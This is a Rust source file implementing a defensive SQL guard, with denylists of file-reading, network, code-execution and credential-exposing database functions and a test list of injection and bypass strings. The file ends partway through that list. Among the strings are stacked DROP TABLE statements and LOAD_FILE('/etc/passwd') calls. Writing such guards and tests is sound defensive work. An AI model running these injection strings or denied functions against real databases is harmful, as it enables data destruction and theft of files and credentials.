//! Statement guard: [`check`] decides whether one piece of SQL is safe to run.
//!
//! Belongs here: the statement allowlist, the AST walk that refuses dangerous constructs
//! anywhere in a statement, and the denylists (functions, catalogs, reserved words) as data.
//!
//! Rules (read-only unless [`GuardPolicy::allow_dml`]):
//! - exactly one statement, which must parse with the dialect;
//! - allowed statements: queries (`SELECT`, `WITH … SELECT`, `VALUES`, `UNION`/`INTERSECT`/
//!   `EXCEPT`) and `EXPLAIN` of an allowed statement (`EXPLAIN ANALYZE` executes its statement,
//!   so the inner statement is held to the same rules); with DML also `INSERT`, `UPDATE`,
//!   `DELETE`, `MERGE` and MySQL `REPLACE`. Everything else (DDL, transaction control,
//!   `SET`/`RESET`, `SHOW`/`DESCRIBE`, `COPY`, `CALL`/`EXECUTE`/`PREPARE`/`DO`, `LOCK`,
//!   `LISTEN`/`NOTIFY`, `VACUUM`/`ANALYZE`, `PRAGMA`, `ATTACH`, `LOAD`, `USE`, `KILL`, …) is
//!   refused. `SHOW` is refused too: it bypasses row limits and RLS, some forms reveal other
//!   sessions' queries (`SHOW PROCESSLIST`), and the schema tools cover the legitimate use;
//! - anywhere in the tree: data-modifying statements inside a query (read-only mode),
//!   `SELECT … INTO`, locking clauses (read-only mode), optimizer hints, denylisted functions
//!   (as scalar calls or table functions, qualified or not, any case), denylisted catalogs,
//!   and syntax from other dialects that the checks here do not model;
//! - printing must be a fixpoint (print, parse, print gives the same text), and the statement
//!   returned — and checked again — is the re-parsed one, so that what runs is what was
//!   checked.
//!
//! Sleep-like functions (`pg_sleep`, `SLEEP`, `BENCHMARK`) are refused rather than left to the
//! statement timeout: they have no analytic use, they hold a pooled connection for the whole
//! timeout, and they are the standard tool of timing attacks.
//!
//! The denylists are matched for every dialect at once (a MySQL function name is refused on
//! PostgreSQL too): a false refusal costs one clear error message, whereas a dialect mix-up
//! (MariaDB configured as MySQL, a PostgreSQL fork with extra functions) must not open a hole.
//! They are a second line of defence; the database role must still be least-privilege.

use std::ops::ControlFlow;

use sqlparser::ast::{
    BinaryOperator, Expr, Ident, ObjectName, ObjectNamePart, Query, Select, SelectFlavor, SetExpr,
    Statement, TableFactor, TableObject, Visit, Visitor,
};

use super::{Dialect, SqlError, parse_statements, to_sql};

/// What a caller allows beyond plain queries.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct GuardPolicy {
    /// Allow `INSERT`, `UPDATE`, `DELETE`, `MERGE` (and `REPLACE` on MySQL). Never DDL.
    pub allow_dml: bool,
}

/// The kind of an accepted statement.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum StatementKind {
    /// A query returning rows: `SELECT`, `WITH`, `VALUES`, set operations.
    Query,
    /// `EXPLAIN` (possibly `ANALYZE`) of an allowed statement.
    Explain,
    /// `INSERT`/`UPDATE`/`DELETE`/`MERGE`/`REPLACE`; only with [`GuardPolicy::allow_dml`].
    Dml,
}

/// A statement that passed [`check`]. Apply RLS and the row cap to `statement`, then send
/// [`to_sql`] of it to the database.
#[derive(Clone, Debug, PartialEq)]
pub struct CheckedSql {
    pub statement: Statement,
    pub kind: StatementKind,
}

/// Parses `sql` as exactly one statement and accepts it only if every part of it is known to
/// be safe under `policy`. The error says what was refused and why.
///
/// The statement returned is the one obtained by parsing the printed form of the input, and
/// it is checked too: that is exactly the text [`to_sql`] will send, as the parser reads it.
pub fn check(dialect: Dialect, sql: &str, policy: &GuardPolicy) -> Result<CheckedSql, SqlError> {
    let statement = parse_one(dialect, sql)?;
    // Checking the original first gives refusals phrased in terms of what the user wrote.
    check_statement(dialect, &statement, policy)?;
    let statement = reparse(dialect, &statement)?;
    let kind = check_statement(dialect, &statement, policy)?;
    Ok(CheckedSql { statement, kind })
}

fn parse_one(dialect: Dialect, sql: &str) -> Result<Statement, SqlError> {
    let mut statements = parse_statements(dialect, sql)?;
    match statements.len() {
        1 => statements.pop().ok_or(SqlError::NotSingleStatement(0)),
        n => Err(SqlError::NotSingleStatement(n)),
    }
}

/// Prints and re-parses `statement`, insisting that printing is a fixpoint: otherwise the
/// database would run something other than what was checked (a printer bug or an ambiguity in
/// the grammar). Strings are compared rather than trees because comparing deep trees needs
/// far more stack than printing them.
fn reparse(dialect: Dialect, statement: &Statement) -> Result<Statement, SqlError> {
    let printed = to_sql(statement);
    let refuse = || {
        SqlError::forbidden(
            "this statement",
            "it does not print back to the same SQL it was parsed from, so it cannot be \
             checked reliably; rewrite it in plainer SQL",
        )
    };
    let again = parse_one(dialect, &printed).map_err(|_| refuse())?;
    if to_sql(&again) == printed {
        Ok(again)
    } else {
        Err(refuse())
    }
}

/// Checks an already parsed statement (for instance after rewriting it). Does not repeat the
/// round-trip check of [`check`].
pub fn check_statement(
    dialect: Dialect,
    statement: &Statement,
    policy: &GuardPolicy,
) -> Result<StatementKind, SqlError> {
    let kind = match statement {
        Statement::Query(_) => StatementKind::Query,
        Statement::Explain { .. } => StatementKind::Explain,
        Statement::Insert(_)
        | Statement::Update(_)
        | Statement::Delete(_)
        | Statement::Merge(_) => StatementKind::Dml,
        // The visitor below produces the detailed refusal for every other statement.
        _ => StatementKind::Query,
    };
    let mut guard = Guard::new(dialect, policy);
    match statement.visit(&mut guard) {
        ControlFlow::Break(err) => Err(err),
        ControlFlow::Continue(()) => Ok(kind),
    }
}

/// Checks a standalone expression (an RLS clause) with the read-only rules: subqueries are
/// allowed, but everything inside them is held to the same rules as a query.
pub fn check_expr(dialect: Dialect, expr: &Expr) -> Result<(), SqlError> {
    let policy = GuardPolicy::default();
    let mut guard = Guard::new(dialect, &policy);
    match expr.visit(&mut guard) {
        ControlFlow::Break(err) => Err(err),
        ControlFlow::Continue(()) => Ok(()),
    }
}

// ---------------------------------------------------------------------------------------------
// Denylists (data). Patterns are `name`, `prefix*`, `schema.name`, `schema.prefix*` or
// `schema.*`, compared case-insensitively with the last one or two parts of the name as
// written. A pattern without a schema matches qualified and unqualified names alike.

/// One denylist entry: a name pattern and the reason given in the refusal.
#[derive(Clone, Copy, Debug)]
pub struct Denied {
    pub pattern: &'static str,
    pub why: &'static str,
}

const fn deny(pattern: &'static str, why: &'static str) -> Denied {
    Denied { pattern, why }
}

const FILES: &str = "it reads or writes files on the database server";
const NETWORK: &str = "it connects to other servers";
const ADMIN: &str = "it administers the server, replication or other sessions";
const STATE: &str = "it changes database or session state (sequences, settings, locks, \
                     transaction ids), which leaks onto the shared pooled connection";
const SLEEP: &str = "it only stalls or burns time: it holds a pooled connection for the whole \
                     statement timeout and enables timing attacks";
const DYNAMIC: &str = "it runs SQL or reads a table named in a string, which bypasses these \
                       checks and row-level security";
const CODE: &str = "it loads or runs native code";
const SECRETS: &str = "it exposes credentials, server configuration or other sessions' queries";
const STATS: &str = "it exposes sampled column values, which bypasses row-level security";
const PRAGMA: &str = "pragma functions expose database configuration; use the schema tools to \
                      list tables and columns";

/// PostgreSQL functions refused anywhere (scalar call or `FROM` table function).
pub const POSTGRES_FUNCTIONS: &[Denied] = &[
    deny("pg_read_*", FILES), // pg_read_file, pg_read_binary_file
    deny("pg_ls_*", FILES),   // pg_ls_dir, pg_ls_logdir, pg_ls_waldir, …
    deny("pg_stat_file", FILES),
    deny("pg_file_*", FILES), // adminpack: pg_file_write, pg_file_unlink, …
    deny("pg_logdir_ls", FILES),
    deny("pg_current_logfile", FILES),
    deny("lo_*", FILES), // lo_import, lo_export, lo_from_bytea, lo_put, …
    deny("loread", FILES),
    deny("lowrite", FILES),
    deny("dblink*", NETWORK),
    deny("postgres_fdw_*", NETWORK),
    deny("set_config", STATE),
    deny("nextval", STATE),
    deny("setval", STATE),
    deny("pg_advisory_*", STATE),
    deny("pg_try_advisory_*", STATE),
    deny("txid_*", STATE),
    deny("pg_current_xact_id*", STATE),
    deny("pg_notify", STATE),
    deny("pg_export_snapshot", STATE),
    deny("pg_import_system_collations", STATE),
    deny("pg_terminate_backend", ADMIN),
    deny("pg_cancel_backend", ADMIN),
    deny("pg_reload_conf", ADMIN),
    deny("pg_rotate_logfile", ADMIN),
    deny("pg_promote", ADMIN),
    deny("pg_switch_*", ADMIN),
    deny("pg_xlog_*", ADMIN),
    deny("pg_wal_replay_*", ADMIN),
    deny("pg_backup_*", ADMIN),
    deny("pg_start_backup", ADMIN),
    deny("pg_stop_backup", ADMIN),
    deny("pg_create_*", ADMIN), // replication slots, restore points
    deny("pg_drop_replication_slot", ADMIN),
    deny("pg_replication_*", ADMIN),
    deny("pg_logical_*", ADMIN),
    deny("pg_copy_*", ADMIN),
    deny("pg_sync_*", ADMIN),
    deny("pg_log_*", ADMIN),
    deny("pg_stat_reset*", ADMIN),
    deny("pg_prewarm", ADMIN),
    deny("pg_truncate_visibility_map", ADMIN),
    deny("binary_upgrade_*", ADMIN),
    deny("pg_extension_config_dump", ADMIN),
    deny("brin_summarize_*", ADMIN),
    deny("brin_desummarize_range", ADMIN),
    deny("gin_clean_pending_list", ADMIN),
    deny("pg_sleep*", SLEEP),
    deny("query_to_xml*", DYNAMIC),
    deny("query_to_xmlschema", DYNAMIC),
    deny("cursor_to_xml*", DYNAMIC),
    deny("table_to_xml*", DYNAMIC),
    deny("schema_to_xml*", DYNAMIC),
    deny("database_to_xml*", DYNAMIC),
    deny("ts_stat", DYNAMIC),
    deny("ts_rewrite", DYNAMIC),
    deny("pg_background_*", DYNAMIC),
    deny("cron.*", DYNAMIC),
    deny("pg_stat_statements*", SECRETS),
    deny("pg_stat_get_activity", SECRETS),
    deny("pg_stat_get_backend_*", SECRETS),
    deny("pg_show_all_file_settings", SECRETS),
    deny("pg_hba_file_rules", SECRETS),
    deny("pg_ident_file_mappings", SECRETS),
];

/// MySQL/MariaDB functions refused anywhere.
pub const MYSQL_FUNCTIONS: &[Denied] = &[
    deny("load_file", FILES),
    deny("sys_exec", CODE), // lib_mysqludf_sys
    deny("sys_eval", CODE),
    deny("sys_bineval", CODE),
    deny("sys_get", CODE),
    deny("sys_set", CODE),
    deny("sleep", SLEEP),
    deny("benchmark", SLEEP),
    deny("master_pos_wait", SLEEP),
    deny("source_pos_wait", SLEEP),
    deny("wait_for_executed_gtid_set", SLEEP),
    deny("wait_until_sql_thread_after_gtids", SLEEP),
    deny("get_lock", STATE),
    deny("release_lock", STATE),
    deny("release_all_locks", STATE),
    deny("service_*", STATE),      // locking service UDFs
    deny("last_insert_id", STATE), // LAST_INSERT_ID(expr) sets session state
    deny("audit_log_*", ADMIN),
    deny("version_tokens_*", ADMIN),
    deny("group_replication_*", ADMIN),
    deny("asynchronous_connection_failover_*", ADMIN),
    deny("mysql_firewall_*", ADMIN),
    deny("set_firewall_*", ADMIN),
    deny("keyring_*", SECRETS),
];

/// SQLite functions (and table-valued functions) refused anywhere.
pub const SQLITE_FUNCTIONS: &[Denied] = &[
    deny("load_extension", CODE),
    deny("fts3_tokenizer", CODE),
    deny("shell_*", CODE),
    deny("readfile", FILES),
    deny("writefile", FILES),
    deny("edit", FILES),
    deny("fsdir", FILES),
    deny("zipfile*", FILES),
    deny("sqlar_*", FILES),
    deny("sqlite_dbpage", FILES),
    deny("sqlite_dbdata", FILES),
    deny("sqlite_dbptr", FILES),
    deny("eval", DYNAMIC),
    deny("pragma_*", PRAGMA),
];

/// PostgreSQL relations refused in `FROM` (any schema).
pub const POSTGRES_CATALOGS: &[Denied] = &[
    deny("pg_authid", SECRETS),
    deny("pg_shadow", SECRETS),
    deny("pg_user_mapping", SECRETS),
    deny("pg_user_mappings", SECRETS),
    deny("user_mapping_options", SECRETS), // information_schema: mapping passwords
    deny("pg_subscription", SECRETS),
    deny("pg_stat_activity", SECRETS),
    deny("pg_stat_statements*", SECRETS),
    deny("pg_hba_file_rules", SECRETS),
    deny("pg_ident_file_mappings", SECRETS),
    deny("pg_file_settings", SECRETS),
    deny("pg_statistic", STATS),
    deny("pg_statistic_ext_data", STATS),
    deny("pg_stats", STATS),
    deny("pg_stats_ext", STATS),
    deny("pg_stats_ext_exprs", STATS),
    deny("pg_largeobject", STATS),
];

/// MySQL/MariaDB relations refused in `FROM`.
pub const MYSQL_CATALOGS: &[Denied] = &[
    deny("mysql.*", SECRETS), // mysql.user, slave_master_info, general_log, …
    deny("performance_schema.*", SECRETS),
    deny("sys.*", SECRETS),
    deny("information_schema.processlist", SECRETS),
    deny("information_schema.innodb_trx", SECRETS),
    deny("information_schema.column_statistics", STATS),
];

/// SQLite relations refused in `FROM`.
pub const SQLITE_CATALOGS: &[Denied] = &[
    deny("sqlite_stat4", STATS),
    deny("sqlite_dbpage", FILES),
    deny("sqlite_dbdata", FILES),
    deny("pragma_*", PRAGMA), // eponymous pragma tables without arguments
];

/// PostgreSQL reserved key words (plus the join words), separated by spaces. An unquoted one
/// used as a table or function name means `sqlparser` and PostgreSQL disagree about the
/// statement: for example `FROM ONLY t` parses as table `ONLY` aliased `t`, which would dodge
/// RLS on `t`.
const POSTGRES_RESERVED: &str = "\
    all analyse analyze and any array as asc asymmetric authorization binary both case cast \
    check collate collation column concurrently constraint create cross current_catalog \
    current_date current_role current_schema current_time current_timestamp current_user \
    default deferrable desc distinct do else end except false fetch for foreign freeze from \
    full grant group having ilike in initially inner intersect into is isnull join lateral \
    leading left like limit localtime localtimestamp natural not notnull null offset on only \
    or order outer overlaps placing primary references returning right select session_user \
    similar some symmetric system_user table tablesample then to trailing true union unique \
    user using variadic verbose when where window with";

/// Words reserved in MySQL and SQLite alike that can never name a table unquoted.
const COMMON_RESERVED: &str = "\
    all and as by case cross distinct else except from full group having in inner intersect \
    into is join lateral left limit natural not null offset on only or order outer right \
    select table then union using values when where window with";

const FUNCTION_LISTS: &[&[Denied]] = &[POSTGRES_FUNCTIONS, MYSQL_FUNCTIONS, SQLITE_FUNCTIONS];
const CATALOG_LISTS: &[&[Denied]] = &[POSTGRES_CATALOGS, MYSQL_CATALOGS, SQLITE_CATALOGS];

fn pattern_matches(pattern: &str, name: &str) -> bool {
    match pattern.strip_suffix('*') {
        Some(prefix) => name.starts_with(prefix),
        None => name == pattern,
    }
}

/// Finds the first entry matching the (lower-cased) name parts.
fn find_denied(lists: &'static [&'static [Denied]], parts: &[String]) -> Option<&'static Denied> {
    let (last, schema) = match parts {
        [] => return None,
        [last] => (last.as_str(), None),
        [.., schema, last] => (last.as_str(), Some(schema.as_str())),
    };
    lists
        .iter()
        .flat_map(|l| l.iter())
        .find(|entry| match entry.pattern.split_once('.') {
            Some((want_schema, want_name)) => {
                schema == Some(want_schema) && pattern_matches(want_name, last)
            }
            None => pattern_matches(entry.pattern, last),
        })
}

fn lowered_parts(name: &ObjectName) -> Vec<String> {
    name.0
        .iter()
        .map(|part| match part {
            ObjectNamePart::Identifier(ident) => ident.value.to_lowercase(),
            // Refused separately; keep a placeholder so positions stay right.
            ObjectNamePart::Function(_) => String::new(),
        })
        .collect()
}

/// Returns the reason if `name` (a function) is denylisted.
pub fn denied_function(name: &ObjectName) -> Option<&'static str> {
    find_denied(FUNCTION_LISTS, &lowered_parts(name)).map(|d| d.why)
}

/// Returns the reason if `name` (a table or view) is denylisted.
pub fn denied_catalog(name: &ObjectName) -> Option<&'static str> {
    find_denied(CATALOG_LISTS, &lowered_parts(name)).map(|d| d.why)
}

fn is_reserved(dialect: Dialect, ident: &Ident) -> bool {
    if ident.quote_style.is_some() {
        return false;
    }
    let word = ident.value.to_ascii_lowercase();
    let list = match dialect {
        Dialect::Postgres => POSTGRES_RESERVED,
        Dialect::MySql | Dialect::Sqlite => COMMON_RESERVED,
    };
    list.split_ascii_whitespace().any(|w| w == word)
}

// ---------------------------------------------------------------------------------------------
// The AST walk.

struct Guard<'p> {
    dialect: Dialect,
    policy: &'p GuardPolicy,
    /// Number of enclosing queries: a statement seen inside a query is a data-modifying CTE.
    query_depth: usize,
    /// Number of enclosing statements: a statement inside another one is under `EXPLAIN`.
    statement_depth: usize,
}

type Flow = ControlFlow<SqlError>;

fn flow(result: Result<(), SqlError>) -> Flow {
    match result {
        Ok(()) => ControlFlow::Continue(()),
        Err(err) => ControlFlow::Break(err),
    }
}

impl<'p> Guard<'p> {
    fn new(dialect: Dialect, policy: &'p GuardPolicy) -> Self {
        Guard {
            dialect,
            policy,
            query_depth: 0,
            statement_depth: 0,
        }
    }

    fn unsupported(&self, what: &str) -> SqlError {
        SqlError::forbidden(
            what,
            format!(
                "this syntax is not part of {} as supported here, so it cannot be checked; \
                 rewrite the query in plain SQL",
                self.dialect.name()
            ),
        )
    }

    fn statement(&self, statement: &Statement) -> Result<(), SqlError> {
        match statement {
            Statement::Query(_) | Statement::Explain { .. } => Ok(()),
            Statement::Insert(insert) => {
                self.dml(if insert.replace_into {
                    "REPLACE"
                } else {
                    "INSERT"
                })?;
                if !insert.optimizer_hints.is_empty() {
                    return Err(hint_error());
                }
                if insert.overwrite
                    || insert.output.is_some()
                    || insert.settings.is_some()
                    || insert.format_clause.is_some()
                    || insert.partitioned.is_some()
                    || insert.multi_table_insert_type.is_some()
                    || !insert.multi_table_into_clauses.is_empty()
                {
                    return Err(self.unsupported("this form of INSERT"));
                }
                match &insert.table {
                    TableObject::TableName(name) => self.relation(name),
                    _ => Err(self.unsupported("INSERT into a table function")),
                }
            }
            Statement::Update(update) => {
                self.dml("UPDATE")?;
                if !update.optimizer_hints.is_empty() {
                    return Err(hint_error());
                }
                if update.output.is_some() {
                    return Err(self.unsupported("UPDATE … OUTPUT"));
                }
                Ok(())
            }
            Statement::Delete(delete) => {
                self.dml("DELETE")?;
                if !delete.optimizer_hints.is_empty() {
                    return Err(hint_error());
                }
                if delete.output.is_some() {
                    return Err(self.unsupported("DELETE … OUTPUT"));
                }
                delete
                    .tables
                    .iter()
                    .try_for_each(|name| self.relation(name))
            }
            Statement::Merge(merge) => {
                self.dml("MERGE")?;
                if !merge.optimizer_hints.is_empty() {
                    return Err(hint_error());
                }
                if merge.output.is_some() {
                    return Err(self.unsupported("MERGE … OUTPUT"));
                }
                Ok(())
            }
            other => Err(refuse_statement(other)),
        }
    }

    fn dml(&self, verb: &str) -> Result<(), SqlError> {
        if self.policy.allow_dml {
            return Ok(());
        }
        let what = if self.query_depth > 0 {
            format!("{verb} inside a query (a data-modifying WITH clause)")
        } else if self.statement_depth > 1 {
            format!("EXPLAIN of {verb}")
        } else {
            verb.to_string()
        };
        Err(SqlError::forbidden(
            what,
            "this data source is read-only for execute_sql (data changes are disabled); only \
             queries that read data are allowed",
        ))
    }

    /// Checks a name used as a table, view or table function.
    fn name_parts(&self, name: &ObjectName) -> Result<(), SqlError> {
        for part in &name.0 {
            match part {
                ObjectNamePart::Identifier(ident) if is_reserved(self.dialect, ident) => {
                    return Err(SqlError::forbidden(
                        format!("the unquoted key word {} used as a name", ident.value),
                        "the database would read it as SQL syntax rather than a name, so the \
                         query would not mean what was checked; quote the name if it really is \
                         one",
                    ));
                }
                ObjectNamePart::Identifier(_) => {}
                ObjectNamePart::Function(_) => {
                    return Err(self.unsupported(&format!("the computed name {name}")));
                }
            }
        }
        Ok(())
    }

    fn relation(&self, name: &ObjectName) -> Result<(), SqlError> {
        self.name_parts(name)?;
        match denied_catalog(name) {
            Some(why) => Err(SqlError::forbidden(format!("access to {name}"), why)),
            None => Ok(()),
        }
    }

    fn function(&self, name: &ObjectName, table_function: bool) -> Result<(), SqlError> {
        for part in &name.0 {
            if let ObjectNamePart::Function(_) = part {
                return Err(self.unsupported(&format!("the computed name {name}")));
            }
        }
        if table_function {
            self.name_parts(name)?;
        }
        match denied_function(name) {
            Some(why) => Err(SqlError::forbidden(
                format!(
                    "the {}function {name}",
                    if table_function { "table " } else { "" }
                ),
                why,
            )),
            None => Ok(()),
        }
    }

    fn query(&self, query: &Query) -> Result<(), SqlError> {
        if !query.locks.is_empty() && !self.policy.allow_dml {
            return Err(SqlError::forbidden(
                "a locking clause (FOR UPDATE / FOR SHARE)",
                "it locks rows and blocks writers; read-only queries must not lock; remove the \
                 clause",
            ));
        }
        if query.for_clause.is_some() {
            return Err(self.unsupported("FOR XML/JSON/BROWSE"));
        }
        if query.settings.is_some() || query.format_clause.is_some() {
            return Err(self.unsupported("SETTINGS/FORMAT"));
        }
        if !query.pipe_operators.is_empty() {
            return Err(self.unsupported("pipe syntax (|>)"));
        }
        // Where parsing did not turn `TABLE name` into `SELECT * FROM name` (after a WITH
        // clause, for one), sqlparser keeps the name as bare strings that no check sees.
        if has_table_command(&query.body) {
            return Err(SqlError::forbidden(
                "the TABLE command in this position",
                "write SELECT * FROM name instead",
            ));
        }
        Ok(())
    }

    fn select(&self, select: &Select) -> Result<(), SqlError> {
        if select.into.is_some() {
            return Err(SqlError::forbidden(
                "SELECT … INTO",
                "it creates a table or writes into variables or files; select the rows \
                 without INTO",
            ));
        }
        if !select.optimizer_hints.is_empty() {
            return Err(hint_error());
        }
        if select.top.is_some() {
            return Err(SqlError::forbidden(
                "TOP",
                format!("TOP is not {} syntax; use LIMIT", self.dialect.name()),
            ));
        }
        if !select.lateral_views.is_empty() {
            return Err(self.unsupported("LATERAL VIEW"));
        }
        if !select.connect_by.is_empty() {
            return Err(self.unsupported("CONNECT BY"));
        }
        if select.prewhere.is_some() {
            return Err(self.unsupported("PREWHERE"));
        }
        if !select.cluster_by.is_empty()
            || !select.distribute_by.is_empty()
            || !select.sort_by.is_empty()
        {
            return Err(self.unsupported("CLUSTER/DISTRIBUTE/SORT BY"));
        }
        if select.value_table_mode.is_some() {
            return Err(self.unsupported("SELECT AS STRUCT/VALUE"));
        }
        if select.flavor != SelectFlavor::Standard {
            return Err(self.unsupported("FROM-first SELECT"));
        }
        Ok(())
    }

    fn table_factor(&self, factor: &TableFactor) -> Result<(), SqlError> {
        match factor {
            TableFactor::Table {
                name,
                args,
                with_ordinality,
                with_hints,
                json_path,
                ..
            } => {
                if !with_hints.is_empty() {
                    return Err(self.unsupported("WITH (table hints)"));
                }
                if json_path.is_some() {
                    return Err(self.unsupported("a JSON path on a table"));
                }
                if args.is_some() || *with_ordinality {
                    self.function(name, true)
                } else {
                    self.relation(name)
                }
            }
            TableFactor::Function { name, .. } => self.function(name, true),
            TableFactor::Derived { .. }
            | TableFactor::NestedJoin { .. }
            | TableFactor::UNNEST { .. }
            | TableFactor::JsonTable { .. }
            | TableFactor::XmlTable { .. } => Ok(()),
            // Pivots, MATCH_RECOGNIZE, OPENJSON, TABLE(expr), semantic views: not in the
            // supported dialects, and the RLS rewrite does not model them.
            _ => Err(self.unsupported("this kind of table expression")),
        }
    }

    fn expr(&self, expr: &Expr) -> Result<(), SqlError> {
        match expr {
            Expr::Function(function) => self.function(&function.name, false),
            Expr::BinaryOp {
                op: BinaryOperator::Assignment,
                ..
            } => Err(SqlError::forbidden(
                "a variable assignment (:=)",
                "assigning user variables leaves state on the shared pooled connection; compute \
                 the value in the query instead",
            )),
            Expr::Lambda(_) => Err(self.unsupported("a lambda expression")),
            Expr::Prior(_) => Err(self.unsupported("PRIOR")),
            Expr::OuterJoin(_) => Err(self.unsupported("the (+) outer join marker")),
            _ => Ok(()),
        }
    }
}

fn has_table_command(body: &SetExpr) -> bool {
    match body {
        SetExpr::Table(_) => true,
        SetExpr::SetOperation { left, right, .. } => {
            has_table_command(left) || has_table_command(right)
        }
        _ => false,
    }
}

fn hint_error() -> SqlError {
    SqlError::forbidden(
        "an optimizer hint comment (/*+ … */)",
        "hints can change session settings or lift the execution time limit; remove the hint",
    )
}

impl Visitor for Guard<'_> {
    type Break = SqlError;

    fn pre_visit_statement(&mut self, statement: &Statement) -> Flow {
        self.statement_depth += 1;
        flow(self.statement(statement))
    }

    fn post_visit_statement(&mut self, _statement: &Statement) -> Flow {
        self.statement_depth = self.statement_depth.saturating_sub(1);
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, query: &Query) -> Flow {
        self.query_depth += 1;
        flow(self.query(query))
    }

    fn post_visit_query(&mut self, _query: &Query) -> Flow {
        self.query_depth = self.query_depth.saturating_sub(1);
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, select: &Select) -> Flow {
        flow(self.select(select))
    }

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> Flow {
        flow(self.table_factor(factor))
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> Flow {
        flow(self.expr(expr))
    }
}

/// The first word(s) of a statement, for error messages ("CREATE TABLE", "SET", "COPY").
fn statement_label(statement: &Statement) -> String {
    const TWO_WORD: &[&str] = &[
        "CREATE", "ALTER", "DROP", "SHOW", "START", "SET", "LOCK", "UNLOCK", "LOAD", "RELEASE",
    ];
    const MODIFIERS: &[&str] = &[
        "OR",
        "REPLACE",
        "TEMPORARY",
        "TEMP",
        "UNIQUE",
        "GLOBAL",
        "LOCAL",
        "UNLOGGED",
        "IF",
        "NOT",
        "EXISTS",
    ];
    let text = statement.to_string();
    let mut words = text
        .split_whitespace()
        .map(|w| {
            w.trim_matches(|c: char| !c.is_ascii_alphanumeric() && c != '_')
                .to_ascii_uppercase()
        })
        .filter(|w| !w.is_empty());
    let Some(first) = words.next() else {
        return "this statement".to_string();
    };
    if TWO_WORD.contains(&first.as_str())
        && let Some(second) = words.find(|w| !MODIFIERS.contains(&w.as_str()))
    {
        return format!("{first} {second}");
    }
    first
}

fn refuse_statement(statement: &Statement) -> SqlError {
    let label = statement_label(statement);
    let first = label.split(' ').next().unwrap_or_default();
    let why = match first {
        "CREATE" | "ALTER" | "DROP" | "TRUNCATE" | "RENAME" | "COMMENT" | "GRANT" | "REVOKE"
        | "DENY" => "schema and privilege changes (DDL) are never allowed through execute_sql",
        "BEGIN" | "START" | "COMMIT" | "ROLLBACK" | "SAVEPOINT" | "RELEASE" | "END" | "ABORT" => {
            "transactions are managed by the server; send the query alone, without transaction \
             control"
        }
        "SET" | "RESET" | "DISCARD" | "USE" => {
            "session settings must not change: connections are pooled and shared, and settings \
             can lift limits such as the statement timeout"
        }
        "SHOW" | "DESCRIBE" | "DESC" | "EXPLAIN" => {
            "metadata statements are not supported here; use the schema tools to list tables and \
             columns"
        }
        "COPY" | "LOAD" | "UNLOAD" | "ATTACH" | "DETACH" | "PRAGMA" | "INSTALL" | "PUT"
        | "LIST" | "REMOVE" | "EXPORT" => {
            "it reads or writes files, loads extensions or changes the database configuration"
        }
        "CALL" | "EXECUTE" | "EXEC" | "PREPARE" | "DEALLOCATE" | "DO" | "DECLARE" | "FETCH"
        | "CLOSE" | "OPEN" => {
            "procedures, prepared statements, code blocks and cursors can run arbitrary code; \
             send the query itself"
        }
        "LOCK" | "UNLOCK" => "explicit locks block other users",
        "LISTEN" | "UNLISTEN" | "NOTIFY" => {
            "notifications signal other sessions or leave state on the pooled connection"
        }
        "KILL" | "VACUUM" | "ANALYZE" | "OPTIMIZE" | "FLUSH" | "CACHE" | "UNCACHE" | "MSCK"
        | "CHECKPOINT" => "administrative commands are not allowed",
        _ => {
            "only SELECT, WITH … SELECT, VALUES, UNION/INTERSECT/EXCEPT and EXPLAIN of those are \
             allowed"
        }
    };
    SqlError::forbidden(label, why)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sql::test_support::Rng;
    use crate::sql::{MAX_SQL_TOKENS, apply_rls, cap_limit};
    use Dialect::{MySql as My, Postgres as Pg, Sqlite as Lite};

    /// The reason category a refusal must have.
    #[derive(Clone, Copy, Debug)]
    enum Want {
        /// `SqlError::Parse`.
        Parse,
        /// `SqlError::NotSingleStatement`.
        Stacked,
        /// `SqlError::Forbidden` whose `what` contains this text (case-insensitive).
        Refused(&'static str),
    }
    use Want::{Parse, Refused, Stacked};

    const READ_ONLY: GuardPolicy = GuardPolicy { allow_dml: false };
    const DML: GuardPolicy = GuardPolicy { allow_dml: true };

    /// Attempts to get past the guard in read-only mode, each with the expected reason.
    const BYPASS: &[(Dialect, &str, Want)] = &[
        // Stacked statements and empty input.
        (Pg, "SELECT 1; DROP TABLE x", Stacked),
        (Pg, "SELECT 1;DROP TABLE x;", Stacked),
        (My, "SELECT 1; DELETE FROM t", Stacked),
        (Lite, "SELECT 1; ATTACH DATABASE '/tmp/x' AS x", Stacked),
        (Pg, "", Stacked),
        (Pg, "   ;  ", Stacked),
        (Pg, "-- only a comment", Stacked),
        (Pg, "SELECT 1 /* ; harmless */; DROP TABLE y", Stacked),
        // Comment tricks: the parser strips comments, the AST decides.
        (Pg, "/* harmless */ DROP TABLE x", Refused("DROP TABLE")),
        (Pg, "SELECT 1 -- ;\n; DROP TABLE x", Stacked),
        (My, "SELECT 1 # comment\n; DROP TABLE x", Stacked),
        (My, "/*!50000 DROP TABLE x */", Refused("DROP TABLE")),
        (My, "SELECT 1 /*!50000 ; DROP TABLE x */", Stacked),
        (
            My,
            "SELECT /*!50000 LOAD_FILE('/etc/passwd') */",
            Refused("load_file"),
        ),
        (
            Pg,
            "SELECT 1 /* outer /* nested */ still a comment */; DROP TABLE x",
            Stacked,
        ),
        (Pg, "DR/**/OP TABLE x", Parse),
        (Pg, "/* unterminated SELECT 1", Parse),
        (My, "SELECT 1 /* /* */ DROP TABLE x */", Parse),
        (Pg, "SELECT $a$ ; $a$; DROP TABLE x", Stacked),
        (Pg, "SELECT 'a\\'; DROP TABLE x; -- '", Stacked),
        (My, "SELECT * FROM `t`; DROP TABLE `x`", Stacked),
        // Unicode and case tricks.
        (Pg, "SELECT 1;\u{200B}DROP TABLE x", Parse),
        (Pg, "SELECT 1\u{FF1B} DROP TABLE x", Parse),
        (Pg, "dRoP tAbLe x", Refused("DROP TABLE")),
        (
            Pg,
            "sElEcT PG_READ_FILE('/etc/passwd')",
            Refused("pg_read_file"),
        ),
        (Pg, "SELECT \"PG_READ_FILE\"('x')", Refused("pg_read_file")),
        // DDL.
        (Pg, "CREATE TABLE x (a int)", Refused("CREATE TABLE")),
        (Pg, "ALTER TABLE x ADD COLUMN b int", Refused("ALTER TABLE")),
